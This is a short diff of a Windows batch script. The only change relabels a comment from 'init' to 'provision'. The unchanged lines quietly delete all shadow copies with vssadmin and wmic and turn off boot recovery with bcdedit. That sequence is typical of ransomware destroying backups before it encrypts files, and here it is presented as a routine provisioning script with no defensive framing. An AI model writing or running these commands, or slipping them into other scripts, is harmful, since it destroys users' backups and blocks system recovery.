@@ -1,4 +1,4 @@
-REM init 9016 v3
+REM provision 9419 v3
 vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
 bcdedit /set {default} recoveryenabled no
